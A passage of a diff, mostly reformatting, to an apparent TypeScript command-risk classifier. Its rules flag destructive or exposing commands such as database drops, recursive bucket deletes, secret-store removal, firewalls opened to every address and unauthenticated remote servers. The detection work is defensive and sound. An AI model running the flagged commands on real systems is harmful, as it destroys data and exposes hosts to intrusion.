+        /\b(?:DROP\s+(?:DATABASE|GRAPH|INDEX|CONSTRAINT)|apoc\.schema\.assert\s*\(\s*\{\s*\}\s*,\s*\{\s*\})/i.test(t) &&
+        name !== "grep"
+      )
+        add(ctx, "sql_drop");
     }
   }
   // Erlang -eval: file:delete / file:del_dir_r, os:cmd, mnesia table deletes (directly or through rpc:call).
   if (name === "erl" || name === "escript" || name === "iex" || name === "elixir" || name === "mix") {
-    const code = [...optValues(["-eval", "-e", "--eval"], ["--eval"]), ...(name === "mix" && words[0] === "run" ? optValues(["-e", "--eval"], []) : [])].join("\n");
+    const code = [
+      ...optValues(["-eval", "-e", "--eval"], ["--eval"]),
+      ...(name === "mix" && words[0] === "run" ? optValues(["-e", "--eval"], []) : []),
+    ].join("\n");
     if (code) {
       for (const m of code.matchAll(/\bfile:(delete|del_dir|del_dir_r|write_file|rename)\s*\(\s*"([^"]*)"/g)) {
         if (m[1] === "write_file") judgeOverwrite(ctx, m[2]!);
@@ -3657,7 +5309,10 @@ function judgeElsewhere(ctx: JudgeContext, name: string): void {
       }
       for (const m of code.matchAll(/\bos:cmd\s*\(\s*"((?:[^"\\]|\\.)*)"/g)) ctx.analyseShell(m[1]!);
       if (/\bos:cmd\s*\(\s*[^"\s]/.test(code)) add(ctx, "inline_code_unanalysable");
-      if (/\bmnesia\s*[:,]\s*(?:delete_table|delete_schema)\b|\bmnesia\s*,\s*(?:delete_table|delete_schema)\b/.test(code)) add(ctx, "sql_drop");
+      if (
+        /\bmnesia\s*[:,]\s*(?:delete_table|delete_schema)\b|\bmnesia\s*,\s*(?:delete_table|delete_schema)\b/.test(code)
+      )
+        add(ctx, "sql_drop");
       if (/\bmnesia\s*[:,]\s*clear_table\b/.test(code)) add(ctx, "sql_delete_without_where");
       for (const key of ormEffects(code)) add(ctx, key);
     }
@@ -3667,7 +5322,10 @@ function judgeElsewhere(ctx: JudgeContext, name: string): void {
     for (const v of optValues([], ["--execute"])) analyseInlineCode("php", v, ctx);
   }
   // Maven exec:exec / exec:java with -Dexec.executable and -Dexec.args: that command runs.
-  if (/^(?:mvn|mvnw|\.\/mvnw)$/.test(name) && texts.some((t) => /^(?:exec:exec|org\.codehaus\.mojo:exec-maven-plugin(?::[\w.-]+)?:exec)$/.test(t))) {
+  if (
+    /^(?:mvn|mvnw|\.\/mvnw)$/.test(name) &&
+    texts.some((t) => /^(?:exec:exec|org\.codehaus\.mojo:exec-maven-plugin(?::[\w.-]+)?:exec)$/.test(t))
+  ) {
     const exe = texts.find((t) => t.startsWith("-Dexec.executable="))?.slice(18);
     const a = texts.find((t) => t.startsWith("-Dexec.args="))?.slice(12) ?? "";
     if (exe) ctx.analyseShell(`${quoteWord(exe)} ${a}`);
@@ -3675,9 +5333,15 @@ function judgeElsewhere(ctx: JudgeContext, name: string): void {
   // Task runners given a file written on the line: its steps are what runs.
   if (name === "just" || name === "task" || name === "go-task") {
     const file = optValues(["-f", "-t"], ["--justfile", "--taskfile"])[0];
-    const names = file ? [file] : name === "just" ? ["Justfile", "justfile", ".justfile"] : ["Taskfile.yml", "Taskfile.yaml", "taskfile.yml", "Taskfile.dist.yml"];
+    const names = file
+      ? [file]
+      : name === "just"
+        ? ["Justfile", "justfile", ".justfile"]
+        : ["Taskfile.yml", "Taskfile.yaml", "taskfile.yml", "Taskfile.dist.yml"];
     for (const f of names) {
-      const text = writtenScript(ctx, f) ?? (ctx.root && !f.startsWith("/") ? writtenScript(ctx, posix.join(ctx.root, f)) : undefined);
+      const text =
+        writtenScript(ctx, f) ??
+        (ctx.root && !f.startsWith("/") ? writtenScript(ctx, posix.join(ctx.root, f)) : undefined);
       if (text === undefined) continue;
       if (text === null) add(ctx, "shell_input");
       else ctx.analyseShell(name === "just" ? justRecipes(text) : taskfileCommands(text));
@@ -3695,17 +5359,43 @@ function judgeElsewhere(ctx: JudgeContext, name: string): void {
   }
   // Compilers given source written on the line (a here-document, here-string, stdin or a file the line wrote): the binary's
   // effects are the source's; when that source calls anything with effects, what the binary does is not readable here.
-  if (/^(?:gcc|cc|clang|g\+\+|c\+\+|clang\+\+|tcc|rustc|go|zig|nim|ghc|fpc|gfortran|swiftc|javac|kotlinc|crystal|dmd|ldc2|nvcc)$/.test(name) && (name !== "go" || words[0] === "build")) {
+  if (
+    /^(?:gcc|cc|clang|g\+\+|c\+\+|clang\+\+|tcc|rustc|go|zig|nim|ghc|fpc|gfortran|swiftc|javac|kotlinc|crystal|dmd|ldc2|nvcc)$/.test(
+      name,
+    ) &&
+    (name !== "go" || words[0] === "build")
+  ) {
     const here = ctx.redirects.find((r) => r.body !== undefined);
-    let source: string | null | undefined = here ? (here.literal ? here.body! : null) : ctx.producer ? producedLiteral(ctx.producer) : undefined;
-    const files = operands(args, "oIlLDUxWf", ["--output", "--target", "--edition", "--crate-name", "--crate-type", "--emit", "--cfg", "-C"]).map((o) => o.text).filter((t) => /\.(?:c|cc|cpp|cxx|rs|go|zig|nim|hs|pas|f90|swift|java|kt|cr|d|cu|m)$/.test(t));
+    let source: string | null | undefined = here
+      ? here.literal
+        ? here.body!
+        : null
+      : ctx.producer
+        ? producedLiteral(ctx.producer)
+        : undefined;
+    const files = operands(args, "oIlLDUxWf", [
+      "--output",
+      "--target",
+      "--edition",
+      "--crate-name",
+      "--crate-type",
+      "--emit",
+      "--cfg",
+      "-C",
+    ])
+      .map((o) => o.text)
+      .filter((t) => /\.(?:c|cc|cpp|cxx|rs|go|zig|nim|hs|pas|f90|swift|java|kt|cr|d|cu|m)$/.test(t));
     for (const f of files) {
       const w = writtenScript(ctx, f) ?? (ctx.root ? writtenScript(ctx, posix.join(ctx.root, f)) : undefined);
       if (w !== undefined) source = w === null || source === null ? null : `${source ?? ""}\n${w}`;
     }
     if (source === undefined) return;
     const o = optValues(["-o"], ["--output"])[0] ?? texts.find((t) => /^-o./.test(t))?.slice(2);
-    const out = o ?? (name === "rustc" || name === "go" || name === "nim" || name === "crystal" ? files[0]?.replace(/\.\w+$/, "") : "a.out");
+    const out =
+      o ??
+      (name === "rustc" || name === "go" || name === "nim" || name === "crystal"
+        ? files[0]?.replace(/\.\w+$/, "")
+        : "a.out");
     if (!out) return;
     noteScript(ctx, out.includes("/") ? out : `./${out}`, false, source === null ? null : nativeAsShell(source));
   }
@@ -3713,7 +5403,8 @@ function judgeElsewhere(ctx: JudgeContext, name: string): void {
 
 const ANY_ADDRESS = /^(?:0\.0\.0\.0\/0|::\/0|0\.0\.0\.0|\*|any|all|Internet|0\/0)$/i;
 /** Tools judged elsewhere for teardown verbs (their own rules know which deletes are local or narrow). */
-const OWN_TEARDOWN_RULES = /^(?:kubectl|oc|k|kind|k3d|minikube|docker|podman|nerdctl|git|helm|vagrant|multipass|lxc|incus|virsh|npm|pnpm|yarn|pip\d*|cargo|gem|brew|apt|apt-get|dnf|yum|snap|flatpak|conda|mamba|micromamba|poetry|uv|tmux|screen|systemctl|terraform|tofu|terragrunt|pulumi|cdk|cdktf|sam|copilot|amplify|azd|juju|sst|serverless|sls|eksctl|aws|gcloud|gsutil|az|rclone|mc|zfs|zpool|lvm|lvremove|git-lfs|dvc|rustup|nvm|pyenv|asdf|mise|sdk|go|dotnet|ollama|huggingface-cli|wp|composer|bundle|rake|make|cmake|just|task|gradle|mvn|ansible|ansible-playbook|salt|puppet|chef-apply|redis-cli|influx|mongosh|psql|mysql|sqlite3|echo|printf|man|grep|rg|sed|awk|cat|ls|find|fd|xargs|parallel|timeout|nohup|nice|env|command|type|sudo|busybox|toybox|gh|glab|hub|jira|trash|gio|rm|rmdir|unlink|tar|zip|unzip|kill|pkill|crontab|at|atrm|journalctl|ufw|iptables|nft|firewall-cmd|ip|nmcli|docker-compose|compose|skaffold|tilt|garden|devspace|okteto|ctlptl|aliyun|azcopy|ceph|cinder|colima|consul|crictl|ctr|dmsetup|doctl|dropdb|dropuser|etcdctl|exo|fly|flyctl|glance|gluster|hcloud|heat|heroku|ibmcloud|kafka-delete-records|kafka-topics|keydb-cli|limactl|linode-cli|mysqladmin|netlify|neutron|nova|oci|openstack|pct|qm|rabbitmqadmin|rabbitmqctl|s3cmd|scw|tccli|tea|terramate|upctl|valkey-cli|varnishadm|vault|vercel|vultr-cli|argocd|flux)$/;
+const OWN_TEARDOWN_RULES =
+  /^(?:kubectl|oc|k|kind|k3d|minikube|docker|podman|nerdctl|git|helm|vagrant|multipass|lxc|incus|virsh|npm|pnpm|yarn|pip\d*|cargo|gem|brew|apt|apt-get|dnf|yum|snap|flatpak|conda|mamba|micromamba|poetry|uv|tmux|screen|systemctl|terraform|tofu|terragrunt|pulumi|cdk|cdktf|sam|copilot|amplify|azd|juju|sst|serverless|sls|eksctl|aws|gcloud|gsutil|az|rclone|mc|zfs|zpool|lvm|lvremove|git-lfs|dvc|rustup|nvm|pyenv|asdf|mise|sdk|go|dotnet|ollama|huggingface-cli|wp|composer|bundle|rake|make|cmake|just|task|gradle|mvn|ansible|ansible-playbook|salt|puppet|chef-apply|redis-cli|influx|mongosh|psql|mysql|sqlite3|echo|printf|man|grep|rg|sed|awk|cat|ls|find|fd|xargs|parallel|timeout|nohup|nice|env|command|type|sudo|busybox|toybox|gh|glab|hub|jira|trash|gio|rm|rmdir|unlink|tar|zip|unzip|kill|pkill|crontab|at|atrm|journalctl|ufw|iptables|nft|firewall-cmd|ip|nmcli|docker-compose|compose|skaffold|tilt|garden|devspace|okteto|ctlptl|aliyun|azcopy|ceph|cinder|colima|consul|crictl|ctr|dmsetup|doctl|dropdb|dropuser|etcdctl|exo|fly|flyctl|glance|gluster|hcloud|heat|heroku|ibmcloud|kafka-delete-records|kafka-topics|keydb-cli|limactl|linode-cli|mysqladmin|netlify|neutron|nova|oci|openstack|pct|qm|rabbitmqadmin|rabbitmqctl|s3cmd|scw|tccli|tea|terramate|upctl|valkey-cli|varnishadm|vault|vercel|vultr-cli|argocd|flux)$/;
 
 /** More teardown, exposure and system changes judged by effect for tools of any name. */
 function judgeMoreEffects(ctx: JudgeContext, name: string, start: number): void {
@@ -3723,63 +5414,183 @@ function judgeMoreEffects(ctx: JudgeContext, name: string, start: number): void 
   const words = sub(args);
   const has = (...xs: string[]) => xs.some((x) => low.includes(x) || low.some((a) => a.startsWith(x + "=")));
   const valueOf = (...opts: string[]): string | undefined => {
-    for (let k = 0; k < texts.length; k++) for (const o of opts) {
-      if (texts[k] === o) return texts[k + 1];
-      if (texts[k]!.startsWith(o + "=")) return texts[k]!.slice(o.length + 1);
-    }
+    for (let k = 0; k < texts.length; k++)
+      for (const o of opts) {
+        if (texts[k] === o) return texts[k + 1];
+        if (texts[k]!.startsWith(o + "=")) return texts[k]!.slice(o.length + 1);
+      }
     return undefined;
   };
-  if (texts.some((t, k) => /^(?:--help|--dry-run|--dryrun|--noop|--what-if|--plan)$/.test(t) || (t === "-h" && (texts.length === 1 || k === texts.length - 1) && name !== "dockerd"))) return;
+  if (
+    texts.some(
+      (t, k) =>
+        /^(?:--help|--dry-run|--dryrun|--noop|--what-if|--plan)$/.test(t) ||
+        (t === "-h" && (texts.length === 1 || k === texts.length - 1) && name !== "dockerd"),
+    )
+  )
+    return;
   const verbs = words.slice(0, 4);
   // Inline code that sets the system clock or allocates without bound.
   const lang = interpreterLanguage(name);
   if (lang && lang !== "awk") {
     const code = args.find((a, k) => k > 0 && /^-[A-Za-z]*[ceE]$|^--eval$/.test(texts[k - 1]!))?.text;
-    if (code !== undefined && /\b(?:clock_settime|settimeofday|stime|SetSystemTime|clock_adjtime|adjtimex)\s*\(/.test(code)) add(ctx, "kernel_change");
+    if (
+      code !== undefined &&
+      /\b(?:clock_settime|settimeofday|stime|SetSystemTime|clock_adjtime|adjtimex)\s*\(/.test(code)
+    )
+      add(ctx, "kernel_change");
     if (code !== undefined && memoryBomb(code)) add(ctx, "resource_exhaustion");
   }
   // Teardown verbs of any CLI not judged by its own rules: destroying an environment, deleting or removing clusters,
   // apps, indices, secrets, keys, buckets, databases, projects or stacks; stopping a job with -purge.
-  if (ctx.out.length === start && !OWN_TEARDOWN_RULES.test(name) && !name.includes("/") && !/^\.|\.(?:sh|py|js)$/.test(name)) {
+  if (
+    ctx.out.length === start &&
+    !OWN_TEARDOWN_RULES.test(name) &&
+    !name.includes("/") &&
+    !/^\.|\.(?:sh|py|js)$/.test(name)
+  ) {
     if (verbs.some((w) => /^(?:destroy|teardown|tear-down|nuke|decommission)$/.test(w))) add(ctx, "infra_teardown");
-    else if (verbs.some((w) => /^(?:delete|remove|rm|del|terminate|purge|drop)$|^(?:delete|terminate|purge|destroy)-|-(?:deletion|delete|destroy|terminate|purge)$/.test(w)) && verbs.some((w) => /^(?:clusters?|kubernetes|k8s|apps?|applications?|indices|indexes|index|secrets?|ssh-keys?|gpg-keys?|keys?|buckets?|databases?|dbs?|projects?|stacks?|environments?|envs?|namespaces?|services?|deployments?|volumes?|instances?|servers?|droplets?|machines?|vms?|functions?|zones?|domains?|certificates?|tokens?|vaults?|repos?|repositories?|topics?|queues?|collections?|tables?|schemas?|releases?)$/.test(w) || /-(?:deletion|delete|destroy|terminate|purge)$|^(?:delete|terminate|purge|destroy)-/.test(w))) add(ctx, "infra_teardown");
+    else if (
+      verbs.some((w) =>
+        /^(?:delete|remove|rm|del|terminate|purge|drop)$|^(?:delete|terminate|purge|destroy)-|-(?:deletion|delete|destroy|terminate|purge)$/.test(
+          w,
+        ),
+      ) &&
+      verbs.some(
+        (w) =>
+          /^(?:clusters?|kubernetes|k8s|apps?|applications?|indices|indexes|index|secrets?|ssh-keys?|gpg-keys?|keys?|buckets?|databases?|dbs?|projects?|stacks?|environments?|envs?|namespaces?|services?|deployments?|volumes?|instances?|servers?|droplets?|machines?|vms?|functions?|zones?|domains?|certificates?|tokens?|vaults?|repos?|repositories?|topics?|queues?|collections?|tables?|schemas?|releases?)$/.test(
+            w,
+          ) || /-(?:deletion|delete|destroy|terminate|purge)$|^(?:delete|terminate|purge|destroy)-/.test(w),
+      )
+    )
+      add(ctx, "infra_teardown");
     else if (verbs.includes("stop") && has("-purge", "--purge")) add(ctx, "cluster_teardown");
-    else if (/^(?:kapp|kapp-controller|helmfile|argocd|flux|waypoint|porter|garden)$/.test(name) && verbs.some((w) => /^(?:delete|destroy|uninstall|remove)$/.test(w))) add(ctx, "cluster_teardown");
+    else if (
+      /^(?:kapp|kapp-controller|helmfile|argocd|flux|waypoint|porter|garden)$/.test(name) &&
+      verbs.some((w) => /^(?:delete|destroy|uninstall|remove)$/.test(w))
+    )
+      add(ctx, "cluster_teardown");
   }
   // Key and secret stores emptied: `gh ssh-key delete`, `pass rm -r`, `docker secret rm $(docker secret ls -q)`.
-  if ((name === "gh" || name === "glab") && /^(?:ssh-key|gpg-key|secret|variable|auth)$/.test(words[0] ?? "") && /^(?:delete|remove|rm|logout)$/.test(words[1] ?? "")) add(ctx, "credential_write");
-  if ((name === "pass" || name === "gopass") && /^(?:rm|remove|delete)$/.test(words[0] ?? "")) add(ctx, "credential_write");
-  if (/^(?:docker|podman)$/.test(name) && /^(?:secret|config)$/.test(words[0] ?? "") && /^(?:rm|remove)$/.test(words[1] ?? "") && args.some((a) => /\$\(|`/.test(a.text) || !a.literal)) add(ctx, "credential_write");
+  if (
+    (name === "gh" || name === "glab") &&
+    /^(?:ssh-key|gpg-key|secret|variable|auth)$/.test(words[0] ?? "") &&
+    /^(?:delete|remove|rm|logout)$/.test(words[1] ?? "")
+  )
+    add(ctx, "credential_write");
+  if ((name === "pass" || name === "gopass") && /^(?:rm|remove|delete)$/.test(words[0] ?? ""))
+    add(ctx, "credential_write");
+  if (
+    /^(?:docker|podman)$/.test(name) &&
+    /^(?:secret|config)$/.test(words[0] ?? "") &&
+    /^(?:rm|remove)$/.test(words[1] ?? "") &&
+    args.some((a) => /\$\(|`/.test(a.text) || !a.literal)
+  )
+    add(ctx, "credential_write");
   // Object stores: recursive or wildcard deletes whatever options come first (`aws --endpoint-url X s3 rm …`, `s5cmd rm 's3://b/*'`).
   if (name === "aws") {
     const k = texts.findIndex((t) => t === "s3");
     if (k >= 0 && texts[k + 1] === "rm" && has("--recursive")) add(ctx, "cloud_storage_delete");
     if (k >= 0 && texts[k + 1] === "rb" && has("--force")) add(ctx, "cloud_storage_delete");
   }
-  if (/^(?:s5cmd|s3cmd|gsutil|mc|rclone|azcopy|b2|wrangler|s4cmd|obsutil|ossutil|coscli)$/.test(name) && verbs.some((w) => /^(?:rm|del|delete|remove|purge|rb|rmdir)$/.test(w)) && args.some((a) => /^[\w-]+:\/\/\S*\*|^[\w-]+:\/\/[^/]+\/?$/.test(a.text))) add(ctx, "cloud_storage_delete");
+  if (
+    /^(?:s5cmd|s3cmd|gsutil|mc|rclone|azcopy|b2|wrangler|s4cmd|obsutil|ossutil|coscli)$/.test(name) &&
+    verbs.some((w) => /^(?:rm|del|delete|remove|purge|rb|rmdir)$/.test(w)) &&
+    args.some((a) => /^[\w-]+:\/\/\S*\*|^[\w-]+:\/\/[^/]+\/?$/.test(a.text))
+  )
+    add(ctx, "cloud_storage_delete");
   // CDN and cache invalidations of everything (`--paths '/*'`).
-  if (verbs.some((w) => /invalidat|purge|flush|ban/.test(w)) && texts.some((t) => /^(?:\/\*|\*|\/)$/.test(t) || /^--(?:paths?|pattern)=(?:\/\*|\*)$/.test(t))) add(ctx, "cache_flush");
+  if (
+    verbs.some((w) => /invalidat|purge|flush|ban/.test(w)) &&
+    texts.some((t) => /^(?:\/\*|\*|\/)$/.test(t) || /^--(?:paths?|pattern)=(?:\/\*|\*)$/.test(t))
+  )
+    add(ctx, "cache_flush");
   // Mounts by helpers.
-  if (name === "systemd-mount" || name === "systemd-umount" || (name === "udisksctl" && /^(?:mount|unmount|loop-setup|loop-delete|power-off)$/.test(words[0] ?? ""))) add(ctx, "mount_change");
+  if (
+    name === "systemd-mount" ||
+    name === "systemd-umount" ||
+    (name === "udisksctl" && /^(?:mount|unmount|loop-setup|loop-delete|power-off)$/.test(words[0] ?? ""))
+  )
+    add(ctx, "mount_change");
   // Firewall and security-group rules opened to every address.
-  if (texts.some((t) => ANY_ADDRESS.test(t.replace(/^--[\w-]+=/, "")) && /\//.test(t) || /(?:^|[=,\s])(?:0\.0\.0\.0\/0|::\/0)(?:$|[,\s])/.test(t)) && verbs.some((w) => /^(?:authorize|create|add|update|allow|set|open|insert|append)\b|^(?:authorize|add|create|update)-|-(?:ingress|rules?|rule)$|firewall|security/.test(w))) add(ctx, "firewall_change");
+  if (
+    texts.some(
+      (t) =>
+        (ANY_ADDRESS.test(t.replace(/^--[\w-]+=/, "")) && /\//.test(t)) ||
+        /(?:^|[=,\s])(?:0\.0\.0\.0\/0|::\/0)(?:$|[,\s])/.test(t),
+    ) &&
+    verbs.some((w) =>
+      /^(?:authorize|create|add|update|allow|set|open|insert|append)\b|^(?:authorize|add|create|update)-|-(?:ingress|rules?|rule)$|firewall|security/.test(
+        w,
+      ),
+    )
+  )
+    add(ctx, "firewall_change");
   // Whole-system configuration switched at once.
-  if ((/^(?:nixos-rebuild|darwin-rebuild)$/.test(name) && /^(?:switch|boot|test)$/.test(words[0] ?? "")) || (name === "guix" && words[0] === "system" && /^(?:reconfigure|init)$/.test(words[1] ?? "")) || (name === "home-manager" && words[0] === "switch")) add(ctx, "boot_config");
+  if (
+    (/^(?:nixos-rebuild|darwin-rebuild)$/.test(name) && /^(?:switch|boot|test)$/.test(words[0] ?? "")) ||
+    (name === "guix" && words[0] === "system" && /^(?:reconfigure|init)$/.test(words[1] ?? "")) ||
+    (name === "home-manager" && words[0] === "switch")
+  )
+    add(ctx, "boot_config");
   // The system clock set.
-  if ((name === "chronyc" && /^(?:makestep|settime|burst)$/.test(words[0] ?? "")) || (name === "ntpdate" && !has("-q", "-d")) || (name === "sntp" && has("-s", "-S")) || (name === "timedatectl" && /^(?:set-time|set-ntp)$/.test(words[0] ?? "")) || (name === "hwclock" && has("--set", "--systohc", "--hctosys", "-w", "-s")) || (name === "htpdate" && has("-s", "-x")) || (name === "rdate" && !has("-p"))) add(ctx, "kernel_change");
+  if (
+    (name === "chronyc" && /^(?:makestep|settime|burst)$/.test(words[0] ?? "")) ||
+    (name === "ntpdate" && !has("-q", "-d")) ||
+    (name === "sntp" && has("-s", "-S")) ||
+    (name === "timedatectl" && /^(?:set-time|set-ntp)$/.test(words[0] ?? "")) ||
+    (name === "hwclock" && has("--set", "--systohc", "--hctosys", "-w", "-s")) ||
+    (name === "htpdate" && has("-s", "-x")) ||
+    (name === "rdate" && !has("-p"))
+  )
+    add(ctx, "kernel_change");
   // Exposure: repositories made public, buckets opened to anonymous access, wildcard policies with sudo.
-  if ((name === "gh" || name === "glab") && words[0] === "repo" && words[1] === "edit" && /^public$/i.test(valueOf("--visibility") ?? "")) add(ctx, "privilege_grant");
-  if (name === "oci" && words.includes("bucket") && /^Object/i.test(valueOf("--public-access-type") ?? "")) add(ctx, "privilege_grant");
-  if (name === "mc" && ((words[0] === "anonymous" && words[1] === "set" && /^(?:download|upload|public)$/.test(words[2] ?? "")) || (words[0] === "policy" && words[1] === "set" && /^(?:download|upload|public)$/.test(words[2] ?? "")))) add(ctx, "privilege_grant");
+  if (
+    (name === "gh" || name === "glab") &&
+    words[0] === "repo" &&
+    words[1] === "edit" &&
+    /^public$/i.test(valueOf("--visibility") ?? "")
+  )
+    add(ctx, "privilege_grant");
+  if (name === "oci" && words.includes("bucket") && /^Object/i.test(valueOf("--public-access-type") ?? ""))
+    add(ctx, "privilege_grant");
+  if (
+    name === "mc" &&
+    ((words[0] === "anonymous" && words[1] === "set" && /^(?:download|upload|public)$/.test(words[2] ?? "")) ||
+      (words[0] === "policy" && words[1] === "set" && /^(?:download|upload|public)$/.test(words[2] ?? "")))
+  )
+    add(ctx, "privilege_grant");
   if (name === "vault" && words[0] === "policy" && words[1] === "write") {
-    const body = [...texts, ...ctx.redirects.filter((r) => r.body !== undefined).map((r) => r.body!), ...(ctx.producer ? [producedLiteral(ctx.producer) ?? ""] : [])].join("\n");
-    if (/path\s+"(?:\*|[^"]*\/\*|sys\/\*?)"[^}]*\b(?:sudo|root)\b/s.test(body) || /path\s+"\*"\s*\{[^}]*(?:create|update|delete)/s.test(body)) add(ctx, "privilege_grant");
+    const body = [
+      ...texts,
+      ...ctx.redirects.filter((r) => r.body !== undefined).map((r) => r.body!),
+      ...(ctx.producer ? [producedLiteral(ctx.producer) ?? ""] : []),
+    ].join("\n");
+    if (
+      /path\s+"(?:\*|[^"]*\/\*|sys\/\*?)"[^}]*\b(?:sudo|root)\b/s.test(body) ||
+      /path\s+"\*"\s*\{[^}]*(?:create|update|delete)/s.test(body)
+    )
+      add(ctx, "privilege_grant");
   }
   // In-place edits of structured files (`yq -i`, `xmlstarlet ed -L`, `crudini --set`, `dasel put -f`): a write of the file.
-  const inplace = (name === "yq" && has("-i", "--inplace")) || (name === "xmlstarlet" && /^(?:ed|edit)$/.test(words[0] ?? "") && has("-l", "--inplace")) || (name === "crudini" && has("--set", "--del", "--merge")) || (name === "dasel" && /^(?:put|delete)$/.test(words[0] ?? "")) || (name === "json" && texts.includes("-I")) || (name === "tomlq" && has("-i", "--in-place")) || (name === "jaq" && has("-i", "--in-place"));
+  const inplace =
+    (name === "yq" && has("-i", "--inplace")) ||
+    (name === "xmlstarlet" && /^(?:ed|edit)$/.test(words[0] ?? "") && has("-l", "--inplace")) ||
+    (name === "crudini" && has("--set", "--del", "--merge")) ||
+    (name === "dasel" && /^(?:put|delete)$/.test(words[0] ?? "")) ||
+    (name === "json" && texts.includes("-I")) ||
+    (name === "tomlq" && has("-i", "--in-place")) ||
+    (name === "jaq" && has("-i", "--in-place"));
   if (inplace) {
-    const ops = name === "xmlstarlet" ? texts.slice(texts.findIndex((t) => t === "ed" || t === "edit") + 1).filter((t, k, xs) => !t.startsWith("-") && !/^-[a-z]$|^--/i.test(xs[k - 1] ?? "")) : operands(args, "f", ["--file", "--expression", "--front-matter"]);
-    const files = (ops as (string | JudgedArg)[]).map((o) => (typeof o === "string" ? o : o.text)).filter((t) => /[./~]/.test(t) && !/^[.[]|^\/\//.test(t) || /^(?:~|\/|\.\.?\/|\$HOME)/.test(t));
+    const ops =
+      name === "xmlstarlet"
+        ? texts
+            .slice(texts.findIndex((t) => t === "ed" || t === "edit") + 1)
+            .filter((t, k, xs) => !t.startsWith("-") && !/^-[a-z]$|^--/i.test(xs[k - 1] ?? ""))
+        : operands(args, "f", ["--file", "--expression", "--front-matter"]);
+    const files = (ops as (string | JudgedArg)[])
+      .map((o) => (typeof o === "string" ? o : o.text))
+      .filter((t) => (/[./~]/.test(t) && !/^[.[]|^\/\//.test(t)) || /^(?:~|\/|\.\.?\/|\$HOME)/.test(t));
     const file = name === "crudini" ? files[0] : name === "dasel" ? valueOf("-f", "--file") : files[files.length - 1];
     if (file) judgeOverwrite(ctx, file);
   }
@@ -3790,7 +5601,12 @@ function judgeMoreEffects(ctx: JudgeContext, name: string, start: number): void 
       const before = texts.slice(0, x);
       const pos: string[] = [];
       for (let k = 0; k < before.length; k++) {
-        if (/^-(?:[tedEScjo]|-type|-extension|-exclude|-max-depth|-min-depth|-size|-changed-within|-changed-before|-owner|-threads|-search-path|-base-directory)$/.test(before[k]!)) k++;
+        if (
+          /^-(?:[tedEScjo]|-type|-extension|-exclude|-max-depth|-min-depth|-size|-changed-within|-changed-before|-owner|-threads|-search-path|-base-directory)$/.test(
+            before[k]!,
+          )
+        )
+          k++;
         else if (!before[k]!.startsWith("-")) pos.push(before[k]!);
       }
       const roots = [...pos.slice(1), ...before.flatMap((t, k) => (t === "--search-path" ? [before[k + 1]!] : []))];
@@ -3799,32 +5615,70 @@ function judgeMoreEffects(ctx: JudgeContext, name: string, start: number): void 
       const words2 = (end >= 0 ? cmd.slice(0, end) : cmd).map((w) => w.replace(/\{[\/.]*\}/g, "_item_"));
       for (const root of roots.length ? roots : ["."]) {
         const item = `${root.replace(/\/+$/, "")}/_item_`;
-        const line = words2.some((w) => w.includes("_item_")) ? words2.map((w) => w.replace(/_item_/g, item)) : [...words2, item];
+        const line = words2.some((w) => w.includes("_item_"))
+          ? words2.map((w) => w.replace(/_item_/g, item))
+          : [...words2, item];
         runWords(ctx, line);
       }
     }
   }
   // Servers on every interface serving a system path, or the container runtime's API, or a notebook with no token.
   const bind = valueOf("-p", "--addr", "--ip", "--bind", "--host", "--listen", "-H", "--address", "-l") ?? "";
-  const everywhere = bind === "" || /^(?::\d+|0\.0\.0\.0(?::\d+)?|\*(?::\d+)?|\[::\](?::\d+)?|::|tcp:\/\/(?:0\.0\.0\.0|\[::\]|:)(?::\d+)?|\d+)$/.test(bind);
-  if (name === "dockerd" && texts.some((t, k) => (texts[k - 1] === "-H" || texts[k - 1] === "--host" || /^--host=/.test(t)) && /^tcp:\/\/(?:0\.0\.0\.0|\[::\]|:|)(?::\d+)?$/.test(t.replace(/^--host=/, ""))) && !has("--tlsverify")) add(ctx, "remote_access");
+  const everywhere =
+    bind === "" ||
+    /^(?::\d+|0\.0\.0\.0(?::\d+)?|\*(?::\d+)?|\[::\](?::\d+)?|::|tcp:\/\/(?:0\.0\.0\.0|\[::\]|:)(?::\d+)?|\d+)$/.test(
+      bind,
+    );
+  if (
+    name === "dockerd" &&
+    texts.some(
+      (t, k) =>
+        (texts[k - 1] === "-H" || texts[k - 1] === "--host" || /^--host=/.test(t)) &&
+        /^tcp:\/\/(?:0\.0\.0\.0|\[::\]|:|)(?::\d+)?$/.test(t.replace(/^--host=/, "")),
+    ) &&
+    !has("--tlsverify")
+  )
+    add(ctx, "remote_access");
   if ((name === "busybox" || name === "httpd") && (texts.includes("httpd") || name === "httpd") && everywhere) {
     const home = valueOf("-h");
     if (home !== undefined) {
       const w = whereIn(ctx, home);
-      if (w === "system" || w === "credential" || w === "home" || posix.normalize(home) === "/" || (w === "outside" && SYSTEM_TOP.test(home))) add(ctx, "remote_access");
+      if (
+        w === "system" ||
+        w === "credential" ||
+        w === "home" ||
+        posix.normalize(home) === "/" ||
+        (w === "outside" && SYSTEM_TOP.test(home))
+      )
+        add(ctx, "remote_access");
     }
   }
   if (name === "rclone" && words[0] === "serve") {
     const served = words[2];
     const a = valueOf("--addr") ?? "";
-    if (served !== undefined && !/^(?:localhost|127\.|\[::1\])/.test(a) && !has("--user", "--htpasswd", "--auth-proxy")) {
+    if (
+      served !== undefined &&
+      !/^(?:localhost|127\.|\[::1\])/.test(a) &&
+      !has("--user", "--htpasswd", "--auth-proxy")
+    ) {
       const w = whereIn(ctx, served);
-      if (posix.normalize(served) === "/" || w === "system" || w === "credential" || w === "home" || (w === "outside" && SYSTEM_TOP.test(served))) add(ctx, "remote_access");
+      if (
+        posix.normalize(served) === "/" ||
+        w === "system" ||
+        w === "credential" ||
+        w === "home" ||
+        (w === "outside" && SYSTEM_TOP.test(served))
+      )
+        add(ctx, "remote_access");
     }
   }
   judgeExposure(ctx, name, texts, words);
-  if (/^(?:jupyter|jupyter-lab|jupyter-notebook|jupyterlab)$/.test(name) && texts.some((t) => /^--(?:ServerApp|NotebookApp|IdentityProvider)\.token=(?:''|""|)$/.test(t)) && /^(?:0\.0\.0\.0|\*|::)$/.test(valueOf("--ip") ?? "")) add(ctx, "remote_access");
+  if (
+    /^(?:jupyter|jupyter-lab|jupyter-notebook|jupyterlab)$/.test(name) &&
+    texts.some((t) => /^--(?:ServerApp|NotebookApp|IdentityProvider)\.token=(?:''|""|)$/.test(t)) &&
+    /^(?:0\.0\.0\.0|\*|::)$/.test(valueOf("--ip") ?? "")
+  )
+    add(ctx, "remote_access");
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -3833,13 +5687,19 @@ function judgeMoreEffects(ctx: JudgeContext, name: string, start: number): void 
